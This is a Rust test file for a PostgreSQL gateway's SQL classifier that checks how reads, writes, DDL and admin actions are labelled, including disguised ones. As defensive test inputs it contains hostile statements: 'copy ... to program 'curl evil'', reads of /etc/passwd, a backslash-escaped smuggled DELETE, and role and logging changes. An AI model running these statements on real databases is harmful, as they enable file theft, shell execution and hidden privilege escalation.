//! The classifier against the statements it must read right, including the ways people try
//! to hide a table or a write.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use super::*;

/// Classifies as a session does that has just started: conforming strings, the pinned path.
pub(super) fn classify(sql: &str) -> Result<Vec<Statement>, SqlError> {
    let mut stmts = super::classify(sql, Strings::Conforming)?;
    resolve(&mut SearchPath::pinned("wicket_gw"), &mut stmts)?;
    Ok(stmts)
}

/// `action table` for each access of the single statement in `sql` (`-` for the database),
/// sorted.
pub(super) fn acc(sql: &str) -> Vec<String> {
    let stmts = classify(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
    assert_eq!(stmts.len(), 1, "{sql}");
    let mut out: Vec<String> = stmts[0]
        .accesses
        .iter()
        .map(|a| {
            let t = a.table.as_ref().map_or("-".to_string(), |t| t.to_string());
            format!("{} {t}", a.action.as_str().trim_start_matches("db:"))
        })
        .collect();
    out.sort();
    out
}

fn same(sql: &str, expected: &[&str]) {
    let mut expected: Vec<String> = expected.iter().map(|s| s.to_string()).collect();
    expected.sort();
    assert_eq!(acc(sql), expected, "{sql}");
}

pub(super) fn kind(sql: &str) -> Action {
    classify(sql).unwrap()[0].kind
}

#[test]
fn reads() {
    same("select * from customers", &["select public.customers"]);
    same(
        "SELECT c.* FROM sales.customers c JOIN payments p ON p.c = c.id",
        &["select sales.customers", "select public.payments"],
    );
    // Reading no table and running only PostgreSQL's own code is a session basic.
    same("select 1", &["connect -"]);
    same("select now()", &["connect -"]);
    same("values (1), (2)", &["connect -"]);
    same("table payments", &["select public.payments"]);
    same(
        "select * from customers where id in (select c from payments)",
        &["select public.customers", "select public.payments"],
    );
    same(
        "select (select max(x) from payments) from customers",
        &["select public.customers", "select public.payments"],
    );
    same(
        "select * from customers limit (select count(*) from payments)",
        &["select public.customers", "select public.payments"],
    );
    same(
        "select * from customers union select * from payments",
        &["select public.customers", "select public.payments"],
    );
    same(
        "select * from customers, lateral (select * from payments) p",
        &["select public.customers", "select public.payments"],
    );
    same(
        "select exists (select 1 from payments)",
        &["select public.payments"],
    );
    same("select * from \"Odd Name\"", &["select public.Odd Name"]);
}

#[test]
fn common_table_expressions_are_not_tables_but_hide_nothing() {
    same(
        "with x as (select * from payments) select * from x",
        &["select public.payments"],
    );
    // A non-recursive CTE's own query sees the table, not itself.
    same(
        "with payments as (select * from payments) select * from payments",
        &["select public.payments"],
    );
    // A CTE is in scope only inside its statement.
    same(
        "select * from (with p as (select 1) select * from p) a, p",
        &["select public.p"],
    );
    same(
        "with recursive r(n) as (select 1 union all select n + 1 from r where n < 3) select * from r",
        &["connect -"],
    );
    same(
        "with a as (select 1), b as (select * from a) select * from b",
        &["connect -"],
    );
    same(
        "with b as (select * from a), a as (select 1) select * from b",
        &["select public.a"],
    );
    same(
        "with d as (delete from t returning *) select * from d",
        &["delete public.t", "select public.t"],
    );
    // A CTE cannot be a write target: `t` is the table.
    same(
        "with t as (select 1) insert into t values (1)",
        &["insert public.t"],
    );
}

#[test]
fn writes() {
    same(
        "insert into orders (id) values (1)",
        &["insert public.orders"],
    );
    same(
        "insert into orders select * from staging.orders",
        &["insert public.orders", "select staging.orders"],
    );
    same(
        "insert into t values (1) on conflict (id) do update set x = 1",
        &["insert public.t", "update public.t"],
    );
    same(
        "insert into t values (1) on conflict do nothing",
        &["insert public.t"],
    );
    same(
        "insert into t values (1) returning *",
        &["insert public.t", "select public.t"],
    );
    same("update t set x = 1 where id = 2", &["update public.t"]);
    same(
        "update t set x = p.x from payments p where p.id = t.id",
        &["update public.t", "select public.payments"],
    );
    same(
        "delete from t using payments p where p.id = t.id",
        &["delete public.t", "select public.payments"],
    );
    same(
        "merge into t using s on t.id = s.id when matched then update set x = s.x when not matched then insert values (s.id)",
        &[
            "insert public.t",
            "select public.s",
            "select public.t",
            "update public.t",
        ],
    );
    same(
        "select * from t for update",
        &["select public.t", "update public.t"],
    );
    same(
        "select * into newt from t",
        &["ddl public.newt", "select public.t"],
    );
    same("truncate t, s.u", &["delete public.t", "delete s.u"]);
}

#[test]
fn copy() {
    same("copy t from stdin", &["insert public.t"]);
    same("copy t to stdout", &["select public.t"]);
    same(
        "copy (select * from payments) to stdout",
        &["select public.payments"],
    );
    same("copy t from '/etc/passwd'", &["admin -", "admin public.t"]);
    same(
        "copy t to program 'curl evil'",
        &["admin -", "admin public.t"],
    );
    same("copy (select 1) to '/tmp/x'", &["admin -"]);
}

#[test]
fn ddl_and_admin() {
    same(
        "create table t (id int references payments (id))",
        &["ddl public.payments", "ddl public.t"],
    );
    same(
        "create temp table scratch (x int)",
        &["ddl pg_temp.scratch"],
    );
    same("alter table t add column y int", &["ddl public.t"]);
    same("drop table t, s.u", &["ddl public.t", "ddl s.u"]);
    same("drop trigger trg on s.t", &["ddl s.t"]);
    same("drop function f()", &["ddl -"]);
    same("drop extension pgcrypto", &["admin -"]);
    same("create index on t (x)", &["ddl public.t"]);
    same(
        "create view v as select * from payments",
        &["ddl public.v", "select public.payments"],
    );
    same(
        "create table t2 as select * from payments",
        &["ddl public.t2", "select public.payments"],
    );
    same(
        "create function f() returns int language sql as 'select 1'",
        &["ddl -"],
    );
    same(
        "grant select on payments to bob",
        &["admin public.payments"],
    );
    same("create role bob", &["admin -"]);
    same("alter system set work_mem = '1GB'", &["admin -"]);
    same("vacuum t", &["admin public.t"]);
    same("do $$ begin perform 1; end $$", &["admin -"]);
    same("call p()", &["admin -"]);
    same("load 'x'", &["admin -"]);
    same(
        "create schema s create table t (x int) grant select on t to bob",
        &["admin -", "admin public.t", "ddl -", "ddl public.t"],
    );
    same("lock table t", &["update public.t"]);
    same("lock table t in access share mode", &["select public.t"]);
}

#[test]
fn functions_that_reach_past_tables_are_admin() {
    same("select pg_read_file('/etc/passwd')", &["admin -"]);
    same(
        "select pg_catalog.set_config('search_path', '', false)",
        &["admin -"],
    );
    same(
        "select query_to_xml('select * from payments', true, true, '')",
        &["admin -"],
    );
    same(
        "select * from customers where id = pg_terminate_backend(1)",
        &["admin -", "select public.customers"],
    );
    assert_eq!(kind("select lo_import('/etc/passwd')"), Action::Admin);
    // `ts_rewrite` with two arguments runs the SELECT it is given, reading any table.
    same(
        "select ts_rewrite('a'::tsquery, 'select t, s from payroll') from customers",
        &["admin -", "select public.customers"],
    );
    same(
        "select ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)",
        &["connect -"],
    );
    same(
        "select upper(name) from customers",
        &["select public.customers"],
    );
}

#[test]
fn session_settings_and_transactions() {
    for sql in [
        "begin",
        "commit",
        "rollback",
        "savepoint a",
        "release a",
        "show work_mem",
        "set application_name = 'x'",
        "set statement_timeout to 1000",
        "set local lock_timeout = '1s'",
        "reset all",
        "reset role",
        "listen x",
        "notify x",
        "set client_encoding = 'UTF8'",
        "set transaction isolation level serializable",
        "discard all",
        "deallocate all",
        "fetch 10 from c",
        "close c",
        "set enable_seqscan = off",
    ] {
        assert_eq!(acc(sql), vec!["connect -".to_string()], "{sql}");
        assert!(!classify(sql).unwrap()[0].read_write, "{sql}");
    }
    for sql in [
        "set role postgres",
        "set session authorization postgres",
        "set search_path = evil",
        "set standard_conforming_strings = off",
        "set client_encoding = 'SJIS'",
        "set log_statement = 'none'",
        "prepare transaction 'x'",
        "commit prepared 'x'",
    ] {
        assert_eq!(kind(sql), Action::Admin, "{sql}");
    }
}

#[test]
fn turning_read_only_off_is_flagged() {
    for sql in [
        "set default_transaction_read_only = off",
        "set default_transaction_read_only to false",
        "SET default_transaction_read_only = 0",
        "set transaction_read_only = 'no'",
        "set transaction read write",
        "set session characteristics as transaction read write",
        "begin read write",
        "start transaction isolation level serializable, read write",
        "set default_transaction_read_only = 'maybe'",
    ] {
        let s = &classify(sql).unwrap()[0];
        assert!(s.read_write, "{sql}");
        assert_eq!(s.kind, Action::Connect, "{sql}");
    }
    for sql in [
        "set default_transaction_read_only = on",
        "set transaction_read_only = true",
        "begin read only",
        "set transaction read only",
        "begin",
        "reset default_transaction_read_only",
    ] {
        assert!(!classify(sql).unwrap()[0].read_write, "{sql}");
    }
}

#[test]
fn prepared_statements() {
    let s = &classify("prepare p (int) as delete from t where id = $1").unwrap()[0];
    assert_eq!(s.effect, Effect::Prepare("p".into()));
    assert_eq!(s.kind, Action::Delete);
    let s = &classify("execute p (1)").unwrap()[0];
    assert_eq!(
        (s.executes.as_deref(), s.kind),
        (Some("p"), Action::Connect)
    );
    same(
        "execute p ((select max(id) from payments))",
        &["select public.payments"],
    );
    assert_eq!(
        classify("deallocate p").unwrap()[0].effect,
        Effect::Deallocate(Some("p".into()))
    );
    assert_eq!(
        classify("deallocate all").unwrap()[0].effect,
        Effect::Deallocate(None)
    );
    same("explain analyze delete from t", &["delete public.t"]);
    same(
        "declare c cursor for select * from payments",
        &["select public.payments"],
    );
}

#[test]
fn execute_inside_another_statement_is_the_statement_it_executes() {
    // `EXPLAIN EXECUTE p` needs what `EXECUTE p` needs: `p`'s needs are added when it runs.
    for sql in [
        "explain execute p",
        "explain (analyze, buffers) execute p (1)",
    ] {
        let s = &classify(sql).unwrap()[0];
        assert_eq!(
            (s.executes.as_deref(), s.kind),
            (Some("p"), Action::Connect),
            "{sql}"
        );
        same(sql, &["connect -"]);
    }
    // `CREATE TABLE ... AS EXECUTE p` creates its table too.
    for sql in [
        "create table x as execute p",
        "explain analyze create table x as execute p",
    ] {
        let s = &classify(sql).unwrap()[0];
        assert_eq!(s.executes.as_deref(), Some("p"), "{sql}");
        assert!(acc(sql).contains(&"ddl public.x".to_string()), "{sql}");
    }
    // What its parameters read counts, as for `EXECUTE` alone.
    same(
        "explain execute p ((select max(id) from payments))",
        &["select public.payments"],
    );
    assert!(classify("prepare q as explain execute p").is_err());
}

#[test]
fn the_gateway_s_own_names_are_refused_everywhere_sql_names_a_statement() {
    for sql in [
        "prepare __wicket_s1 as select 1",
        "execute __wicket_s1",
        "explain execute __wicket_s1",
        "create table x as execute __wicket_s1",
        "deallocate __wicket_s1",
        "deallocate prepare __wicket_s1",
        "declare __wicket_p1 cursor with hold for select 1",
        "close __wicket_p1",
        "fetch 10 from __wicket_p1",
        "move next in __wicket_p1",
    ] {
        assert_eq!(
            classify(sql),
            Err(SqlError::Reserved(
                sql.split_whitespace()
                    .find(|w| w.starts_with("__wicket_"))
                    .unwrap()
                    .to_string()
            )),
            "{sql}"
        );
    }
    assert!(classify("prepare \"__WICKET_s1\" as select 1").is_ok());
}

#[test]
fn several_statements_each_with_their_text() {
    let stmts = classify("SELECT 1; DELETE FROM t;  ").unwrap();
    assert_eq!(stmts.len(), 2);
    assert_eq!(stmts[0].text, "SELECT 1");
    assert_eq!(stmts[1].text, "DELETE FROM t");
    assert_eq!(stmts[1].kind, Action::Delete);
    assert!(classify("").unwrap().is_empty());
    assert!(classify(" ; ").unwrap().is_empty());
}

#[test]
fn what_cannot_be_read_is_an_error() {
    assert!(matches!(classify("selec 1"), Err(SqlError::Syntax(_))));
    assert!(matches!(
        classify("select 'unterminated"),
        Err(SqlError::Syntax(_))
    ));
    // Nesting deeper than the parse tree's decoder allows is denied, not crashed on.
    let mut deep = "select 1".to_string();
    for _ in 0..200 {
        deep = format!("select ({deep})");
    }
    assert_eq!(
        classify(&deep),
        Err(SqlError::Unclassified(
            "a statement nested this deeply".into()
        ))
    );
    assert!(classify(&format!("select {}1{}", "(".repeat(5000), ")".repeat(5000))).is_ok());
    assert!(classify("select 1\0").is_err());
}

#[test]
fn set_config_needs_what_the_same_set_needs() {
    // asyncpg sends this before it introspects a type.
    same("SELECT set_config('jit', 'off', false)", &["connect -"]);
    assert_eq!(
        kind("select set_config('role', 'postgres', false)"),
        Action::Admin
    );
    assert_eq!(
        kind("select set_config('standard_conforming_strings', 'off', false)"),
        Action::Admin
    );
    // A setting named by an expression could be any setting.
    assert_eq!(
        kind("select set_config(current_user, 'x', false)"),
        Action::Admin
    );
    assert!(
        classify("select set_config('default_transaction_read_only', 'off', false)").unwrap()[0]
            .read_write
    );
    assert!(
        !classify("select set_config('default_transaction_read_only', 'on', true)").unwrap()[0]
            .read_write
    );
}

#[test]
fn backslashes_are_read_both_ways() {
    // With `standard_conforming_strings = off` the server runs a DELETE here.
    let hidden = "select 'a\\'' as x; delete from t; --'";
    for strings in [Strings::Conforming, Strings::Escaping] {
        let err = super::classify(hidden, strings).unwrap_err();
        assert!(
            err.to_string().contains("standard_conforming_strings"),
            "{err}"
        );
    }
    // Either reading's tables are needed when both readings parse.
    let st = &super::classify("select 'C:\\temp' from t", Strings::Conforming).unwrap()[0];
    assert_eq!(st.accesses.len(), 1);
    // A literal only one reading accepts is read that way.
    let st = &super::classify("select 'it\\'s' from t", Strings::Escaping).unwrap()[0];
    assert_eq!(st.text, "select 'it\\'s' from t");
    assert!(super::classify("select 'it\\'s' from t", Strings::Conforming).is_err());
}

#[test]
fn catalog_names_resolve_to_pg_catalog() {
    same(
        "SELECT rolname, rolsuper FROM pg_authid",
        &["select pg_catalog.pg_authid"],
    );
    same(
        "update pg_type set typname = 'x'",
        &["update pg_catalog.pg_type"],
    );
    same("select * from public.pg_type", &["select public.pg_type"]);
}

#[test]
fn each_statement_knows_where_its_text_is() {
    let sql = "  select 1 ;\n -- c\n deallocate prepare s1;  ";
    let stmts = classify(sql).unwrap();
    for st in &stmts {
        assert_eq!(&sql[st.span.clone()], st.text);
    }
    assert_eq!(stmts[1].text, "deallocate prepare s1");
    assert_eq!(stmts[1].effect, Effect::Deallocate(Some("s1".into())));
}

#[test]
fn cursors_are_declared_and_closed() {
    assert_eq!(
        classify("DECLARE C CURSOR FOR select * from payments").unwrap()[0].effect,
        Effect::Declare {
            name: "c".into(),
            hold: false
        }
    );
    assert_eq!(
        classify("declare \"Big\" binary no scroll cursor with hold for select 1").unwrap()[0]
            .effect,
        Effect::Declare {
            name: "Big".into(),
            hold: true
        }
    );
    assert_eq!(
        classify("close c").unwrap()[0].effect,
        Effect::Close(Some("c".into()))
    );
    assert_eq!(
        classify("close all").unwrap()[0].effect,
        Effect::Close(None)
    );
}
